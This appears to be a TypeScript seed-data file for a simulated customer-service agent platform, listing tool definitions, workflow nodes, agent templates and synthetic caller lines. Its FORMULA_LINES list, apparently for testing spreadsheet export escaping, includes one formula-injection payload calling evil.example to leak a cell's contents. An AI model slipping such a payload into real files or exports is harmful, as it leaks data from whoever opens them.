// Static building blocks of the simulated space: tool definitions, workflow node
// library, agent templates and the text pools used to write transcripts.
// Pure data; generate.ts turns it into seeded records.

export type ConnectionKey = 'shop' | 'calendar' | 'helpdesk';

export interface ToolDef {
  slug: string;
  name: string;
  description: string;
  connection: ConnectionKey;
  method: string;
  url: string;
  params: { name: string; value: string; required: boolean }[];
  fields: string[];
  limit: number;
  remember: string[];
  announce: string | null;
}

export const TOOL_DEFS: readonly ToolDef[] = [
  {
    slug: 'find_customer',
    name: 'Find customer',
    description:
      'Looks up the caller by phone number or e-mail. Use it at the start to greet known customers by name. Does not change anything.',
    connection: 'shop',
    method: 'GET',
    url: '/customers/search?phone={{phone}}',
    params: [{ name: 'phone', value: "The caller's phone number in international format", required: true }],
    fields: ['customer_id', 'name', 'tier'],
    limit: 1,
    remember: ['customer_id', 'name'],
    announce: null,
  },
  {
    slug: 'lookup_order',
    name: 'Look up order',
    description:
      'Returns status, items and total of one order. Use it when the caller asks about an order and gives its number (like A-12345). Does not cancel or change orders.',
    connection: 'shop',
    method: 'GET',
    url: '/orders/{{order_number}}',
    params: [{ name: 'order_number', value: 'The order number, like A-12345', required: true }],
    fields: ['status', 'items', 'total'],
    limit: 5,
    remember: ['status'],
    announce: 'One moment, I am looking up your order.',
  },
  {
    slug: 'track_shipment',
    name: 'Track shipment',
    description: 'Returns the tracking events and expected delivery of a parcel. Use it for "where is my parcel" questions.',
    connection: 'shop',
    method: 'GET',
    url: '/shipments/{{tracking_id}}',
    params: [{ name: 'tracking_id', value: 'Tracking number or order number', required: true }],
    fields: ['carrier', 'events', 'eta'],
    limit: 10,
    remember: ['eta'],
    announce: 'Let me check where your parcel is.',
  },
  {
    slug: 'create_return',
    name: 'Create return',
    description: 'Registers a return for items of an order and e-mails a label. Use only after the caller confirmed the items.',
    connection: 'shop',
    method: 'POST',
    url: '/returns',
    params: [
      { name: 'order_number', value: 'The order number', required: true },
      { name: 'reason', value: 'Why the items are returned, in the words of the caller', required: false },
    ],
    fields: ['return_id', 'label_url'],
    limit: 1,
    remember: ['return_id'],
    announce: 'I am registering the return now.',
  },
  {
    slug: 'check_availability',
    name: 'Check availability',
    description: 'Lists free appointment slots for a day. Use it before booking or moving an appointment.',
    connection: 'calendar',
    method: 'GET',
    url: '/slots?date={{date}}',
    params: [{ name: 'date', value: 'The wished day as YYYY-MM-DD', required: true }],
    fields: ['slots'],
    limit: 8,
    remember: [],
    announce: 'Let me see which times are free.',
  },
  {
    slug: 'book_appointment',
    name: 'Book appointment',
    description: 'Books one slot for the caller. Use only after the caller chose a slot from check_availability.',
    connection: 'calendar',
    method: 'POST',
    url: '/appointments',
    params: [
      { name: 'slot', value: 'The chosen slot as returned by check_availability', required: true },
      { name: 'name', value: "The caller's full name", required: true },
    ],
    fields: ['appointment_id', 'confirmed'],
    limit: 1,
    remember: ['appointment_id'],
    announce: 'I am booking that for you.',
  },
  {
    slug: 'reschedule_appointment',
    name: 'Reschedule appointment',
    description: 'Moves an existing appointment to a new free slot.',
    connection: 'calendar',
    method: 'PATCH',
    url: '/appointments/{{appointment_id}}',
    params: [
      { name: 'appointment_id', value: 'The id of the existing appointment', required: true },
      { name: 'new_slot', value: 'The new slot as returned by check_availability', required: true },
    ],
    fields: ['ok', 'previous_slot'],
    limit: 1,
    remember: [],
    announce: 'I am moving your appointment.',
  },
  {
    slug: 'get_invoice',
    name: 'Get invoice',
    description: 'Returns amount, due date and payment state of an invoice. Read-only.',
    connection: 'helpdesk',
    method: 'GET',
    url: '/invoices/{{invoice_number}}',
    params: [{ name: 'invoice_number', value: 'The invoice number, like INV-2024-0042', required: true }],
    fields: ['amount', 'currency', 'due_date', 'paid'],
    limit: 1,
    remember: ['amount'],
    announce: 'Let me pull up that invoice.',
  },
  {
    slug: 'send_payment_link',
    name: 'Send payment link',
    description: 'Sends a payment link for an open invoice by SMS or e-mail.',
    connection: 'helpdesk',
    method: 'POST',
    url: '/payment-links',
    params: [
      { name: 'invoice_number', value: 'The invoice number', required: true },
      { name: 'channel', value: 'sms or email, as the caller prefers', required: true },
    ],
    fields: ['url'],
    limit: 1,
    remember: [],
    announce: 'I am sending you the link now.',
  },
  {
    slug: 'create_ticket',
    name: 'Create ticket',
    description: 'Opens a support ticket so a human calls back. Use when you cannot solve the request yourself.',
    connection: 'helpdesk',
    method: 'POST',
    url: '/tickets',
    params: [
      { name: 'subject', value: 'One line about the request', required: true },
      { name: 'body', value: 'What the caller needs, with all details given', required: true },
    ],
    fields: ['ticket_id'],
    limit: 1,
    remember: ['ticket_id'],
    announce: 'I am writing that down for my colleagues.',
  },
];

export type NodeType = 'greeting' | 'conversation' | 'tool' | 'knowledge' | 'transfer' | 'end';

export interface NodeDef {
  type: NodeType;
  title: string;
  tools?: string[];
}

export const NODE_LIBRARY: Record<string, NodeDef> = {
  greeting: { type: 'greeting', title: 'Greeting' },
  identify_caller: { type: 'tool', title: 'Identify the caller', tools: ['find_customer'] },
  route_intent: { type: 'conversation', title: 'Find out what the caller needs' },
  lookup_order: { type: 'tool', title: 'Order status', tools: ['lookup_order'] },
  track_shipment: { type: 'tool', title: 'Parcel tracking', tools: ['track_shipment'] },
  start_return: { type: 'tool', title: 'Start a return', tools: ['create_return'] },
  faq: { type: 'knowledge', title: 'Answer from the knowledge base' },
  book_appointment: { type: 'tool', title: 'Book an appointment', tools: ['check_availability', 'book_appointment'] },
  reschedule_appointment: {
    type: 'tool',
    title: 'Move an appointment',
    tools: ['check_availability', 'reschedule_appointment'],
  },
  check_invoice: { type: 'tool', title: 'Invoice question', tools: ['get_invoice'] },
  update_payment: { type: 'tool', title: 'Payment link', tools: ['send_payment_link'] },
  take_message: { type: 'tool', title: 'Take a message', tools: ['create_ticket'] },
  anything_else: { type: 'conversation', title: 'Anything else?' },
  transfer_to_human: { type: 'transfer', title: 'Transfer to a human' },
  end: { type: 'end', title: 'Goodbye' },
};

export interface AgentTemplate {
  key: string;
  name: string;
  description: string | null;
  language: string;
  intents: string[];
  identify: boolean;
  transfer: boolean;
  chatShare: number;
  weight: number;
  firstMessage: string;
  role: string;
}

export const ACTIVE_TEMPLATES: readonly AgentTemplate[] = [
  {
    key: 'order_support',
    name: 'Order Support',
    description: 'Order status, parcels and returns',
    language: 'en',
    intents: ['lookup_order', 'track_shipment', 'start_return', 'faq'],
    identify: true,
    transfer: true,
    chatShare: 0.35,
    weight: 6,
    firstMessage: 'Hi, this is the order support line of {company}. How can I help you today?',
    role: 'You help customers with orders, deliveries and returns.',
  },
  {
    key: 'web_chat',
    name: 'Website Chat',
    description: 'Chat widget on the shop pages',
    language: 'en',
    intents: ['faq', 'track_shipment', 'lookup_order'],
    identify: false,
    transfer: true,
    chatShare: 1,
    weight: 5,
    firstMessage: 'Hello 👋 I am the {company} assistant. Ask me anything about your order!',
    role: 'You answer visitors of the web shop in the chat widget.',
  },
  {
    key: 'front_desk',
    name: 'Front Desk',
    description: null,
    language: 'en',
    intents: ['faq', 'book_appointment', 'lookup_order'],
    identify: false,
    transfer: true,
    chatShare: 0.25,
    weight: 5,
    firstMessage: 'Good day, {company}, front desk speaking. What can I do for you?',
    role: 'You are the first point of contact and route callers.',
  },
  {
    key: 'booking',
    name: 'Booking Assistant',
    description: 'Appointments in the showroom',
    language: 'en',
    intents: ['book_appointment', 'reschedule_appointment', 'faq'],
    identify: true,
    transfer: true,
    chatShare: 0.2,
    weight: 4,
    firstMessage: 'Hello, you are speaking with the booking assistant of {company}.',
    role: 'You book and move showroom appointments.',
  },
  {
    key: 'after_hours',
    name: 'After-hours Line',
    description: 'Takes messages outside business hours; no human to transfer to',
    language: 'en',
    intents: ['faq', 'take_message'],
    identify: false,
    transfer: false,
    chatShare: 0,
    weight: 2,
    firstMessage: 'Thanks for calling {company}. Our team is away, but I can help or take a message.',
    role: 'You answer simple questions and take messages at night.',
  },
  {
    key: 'zurich',
    name: 'Kundenservice Zürich',
    description: 'Deutschsprachige Linie für die Schweiz',
    language: 'de',
    intents: ['lookup_order', 'faq', 'take_message'],
    identify: true,
    transfer: true,
    chatShare: 0.4,
    weight: 2,
    firstMessage: 'Grüezi, Kundenservice {company}. Wie kann ich Ihnen helfen?',
    role: 'Du hilfst Kundinnen und Kunden aus der Schweiz auf Deutsch.',
  },
];

export const PAUSED_TEMPLATE: AgentTemplate = {
  key: 'billing',
  name: 'Billing Helper',
  description: 'Invoices and payment links (paused while billing moves to the new system)',
  language: 'en',
  intents: ['check_invoice', 'update_payment', 'faq'],
  identify: true,
  transfer: true,
  chatShare: 0.3,
  weight: 3,
  firstMessage: 'Hi, billing team of {company}. Do you have your invoice number at hand?',
  role: 'You answer questions about invoices and payments.',
};

export const DRAFT_TEMPLATE: AgentTemplate = {
  key: 'returns_pilot',
  name: 'Returns Pilot',
  description: 'New returns flow, not published yet',
  language: 'en',
  intents: ['start_return', 'faq'],
  identify: false,
  transfer: true,
  chatShare: 0.5,
  weight: 0,
  firstMessage: 'Hi! I can help you return something from {company}.',
  role: 'You help customers return items.',
};

export const COMPANIES: readonly (readonly [string, string])[] = [
  ['acme', 'Acme'],
  ['globex', 'Globex'],
  ['initech', 'Initech'],
  ['nordwind', 'Nordwind'],
  ['hooli', 'Hooli'],
  ['umbrella', 'Umbrella'],
  ['soylent', 'Soylent'],
  ['vandelay', 'Vandelay'],
];

export const SLUG_SUFFIXES = ['support', 'care', 'service', 'help'] as const;

export const LLM_OPTIONS = ['gpt-4o-mini', 'gpt-4.1', 'claude-sonnet-4', 'mistral-large'] as const;

export const PAGE_PATHS = [
  '/help/shipping',
  '/help/returns?utm_source=newsletter&utm_medium=email',
  '/products/trail-runner-2?color=blue',
  '/checkout',
  '/account/orders',
  '/de/hilfe/rücksendung',
  '/',
  '/search?q=größe+tabelle',
] as const;

export const CUSTOMER_NAMES = [
  'Zoë Müller',
  'François Dubois',
  'Jürgen Weiß',
  'Ana María López',
  '山田 太郎',
  'Øyvind Hansen',
  'Siobhán O\'Neill',
  'Chloé Bernard',
  'Mehmet Yılmaz',
  'Priya Natarajan',
  'John "Jack" Smith',
  'Łukasz Nowak',
  'Renée Fischer',
  'Björn Andersson',
  'Wang Fang (王芳)',
  'Alex Kim',
] as const;

export const FAQ_QUESTIONS = [
  'How long does delivery take to Switzerland?',
  'Do you ship to the Åland Islands?',
  'What are your opening hours on Saturday?',
  'Can I pay by invoice, or only by card?',
  'Is the "Trail Runner 2" waterproof?',
  'Where do I find the size chart, the one with EU sizes?',
  'Do you have a store in München?',
  'Wie lange dauert der Versand nach Zürich?',
  'Is there a student discount, 10 % or so?',
  'Can I change the delivery address after ordering?',
  'What does "processing" mean on my order page?',
  '日本への発送はできますか？',
] as const;

export const FAQ_ANSWERS = [
  'Delivery takes 2–4 working days within Europe.',
  'Yes, we ship there; customs fees may apply.',
  'On Saturdays we are open from 9:00 to 14:00.',
  'You can pay by card, PayPal or invoice (invoice up to 500 €).',
  'It is water-resistant, not fully waterproof.',
  'The size chart is at the bottom of every product page, under "Size & fit".',
  'Our Munich store is at Sendlinger Straße 12.',
  'Der Versand in die Schweiz dauert 3–5 Werktage.',
  'Students get 10 % off with a valid student ID.',
  'Yes, as long as the order has not shipped yet.',
  '"Processing" means we are packing your order right now.',
  'はい、日本への発送も承っております。',
] as const;

export const INTENT_LINES: Record<string, readonly string[]> = {
  lookup_order: [
    'I want to know what happened to my order {order}.',
    'My order {order} still says "processing", is that normal?',
    'Hi, where is my order? The number is {order}.',
  ],
  track_shipment: [
    'My parcel was supposed to arrive yesterday.',
    'Where is my package? Tracking says "in transit" for five days.',
    'The courier left a note, but I was home the whole time 😡',
  ],
  start_return: [
    'I would like to return the shoes, they are too small.',
    'Can I send back part of order {order}?',
    'The jacket arrived damaged, I want to return it.',
  ],
  faq: ['I have a quick question.', 'Just a general question, please.', 'Eine kurze Frage bitte.'],
  book_appointment: [
    'I would like to book an appointment in the showroom.',
    'Can I come by on {day} for a fitting?',
    'Do you have a slot next week?',
  ],
  reschedule_appointment: [
    'I need to move my appointment, something came up.',
    'Can we do {day} instead?',
  ],
  check_invoice: [
    'I have a question about invoice {invoice}.',
    'Why is invoice {invoice} higher than the order total?',
  ],
  update_payment: ['Can you send me a link to pay the open invoice?', 'My card was declined, how else can I pay?'],
  take_message: [
    'Please have someone call me back tomorrow morning.',
    'Can you pass on a message to the team?',
  ],
  transfer_to_human: ['Can I please talk to a real person?', 'I want to speak to a human, now.', 'Agent. AGENT!'],
  end: ['No, that was all, thanks.', "That's everything, bye!", 'Nein danke, das war alles.'],
};

/** What the caller says when the agent needs the details for a tool node. */
export const PROVIDE_LINES: Record<string, readonly string[]> = {
  identify_caller: ['My number is the one I am calling from.', 'It is {name}, customer since 2019.', 'Sure, my e-mail is on file.'],
  lookup_order: ['The order number is {order}.', 'It is {order}, A as in Alpha.', '{order}, I think.'],
  track_shipment: ['Tracking number? It is the same as the order, {order}.', 'Order {order}.'],
  start_return: ['Both pairs from order {order}, please.', 'Just the jacket, order {order}.'],
  book_appointment: ['{day} afternoon would be ideal.', 'Any time on {day}, the earlier the better.'],
  reschedule_appointment: ['Move it to {day}, please.', 'The appointment on Tuesday, to {day}.'],
  check_invoice: ['Invoice {invoice}.', 'The number is {invoice}, from last month.'],
  update_payment: ['By SMS please.', 'E-mail is better, thanks.'],
  take_message: ['Please tell them: "call me back after 5 pm", thanks.', 'My name is {name}, it is about order {order}.'],
};

export const CALLER_FILLERS = [
  'Yes.',
  'Okay, thanks.',
  'Hmm, let me check…',
  'Sure, it is {order}.',
  'My name is {name}.',
  'Sorry, can you repeat that?',
  'Right, and then?',
  'It was delivered to "the neighbour", apparently.',
  'I already called twice, honestly.',
  'Perfect 👍',
  'Ja, genau.',
  'Great, merci!',
] as const;

/** Caller lines that begin with a spreadsheet formula character. */
export const FORMULA_LINES = [
  '=1+1 is what the website showed me as total',
  '+49 151 23456789 is my number, call me back',
  '-- hello? is anyone there?',
  '@support I need help with my order',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  '+++ urgent +++ my parcel is lost',
  '-5 € discount was missing on the bill',
] as const;

export const EMOJI = [' 🙂', ' 👍', ' 😡', ' 📦', ' 🙏', ' 🎉', ' 🤷‍♀️'] as const;

export const AGENT_ASK = [
  'How can I help you?',
  'What can I do for you today?',
  'Could you tell me a bit more?',
  'What is it about?',
] as const;

export const AGENT_ASK_DE = ['Wie kann ich helfen?', 'Kann ich sonst noch etwas für Sie tun?'] as const;

export const AGENT_ACK = [
  'Thanks, got it.',
  'Understood.',
  'All right, I have noted that.',
  'Thank you, {name}.',
] as const;

export const TOOL_OK_LINES: Record<string, readonly string[]> = {
  find_customer: ['Thanks, {name}, I found your account.', 'I have your customer record in front of me.'],
  lookup_order: [
    'Your order {order} has shipped and should arrive on {day}.',
    'Order {order} is being packed right now.',
    'I see order {order}: 2 items, total 89.90 €, status "delivered".',
  ],
  track_shipment: ['Your parcel is in the local depot and arrives {day}.', 'The carrier says: out for delivery.'],
  create_return: ['Done. The return label is on its way to your e-mail.'],
  check_availability: ['On {day} I have 9:30, 11:00 and 15:15 free.'],
  book_appointment: ['You are booked for {day}. You will get a confirmation by SMS.'],
  reschedule_appointment: ['Your appointment is moved to {day}.'],
  get_invoice: ['Invoice {invoice} is 129.90 €, due on {day}.'],
  send_payment_link: ['I have sent the payment link, it is valid for 24 hours.'],
  create_ticket: ['I have passed this on; someone will call you back tomorrow.'],
};

export const TOOL_FAIL_LINES = [
  'I am sorry, I cannot reach our system at the moment.',
  'Hmm, that did not work, the system timed out.',
  'Sorry, something went wrong on our side.',
] as const;

export const TRANSFER_LINES = [
  'I am connecting you with a colleague now, please hold.',
  'Let me transfer you to someone from the team.',
  'One moment, I will put you through to a human colleague.',
] as const;

export const BYE_LINES = [
  'Thank you for calling, goodbye!',
  'Have a great day!',
  'Glad I could help. Bye!',
] as const;

export const BYE_LINES_DE = ['Vielen Dank und einen schönen Tag!', 'Auf Wiederhören!'] as const;

export const HANGUP_LAST_LINES = ['Wait, I have to…', 'Hello? The line is bad', 'Forget it.', 'Hmm.'] as const;

export const VOICEMAIL_LINES = [
  'Hello, this is {company} calling about your order {order}. Please call us back. Thank you!',
] as const;

export const WEEKDAYS = ['Monday', 'Tuesday', 'Wednesday', 'Thursday', 'Friday', 'Saturday'] as const;
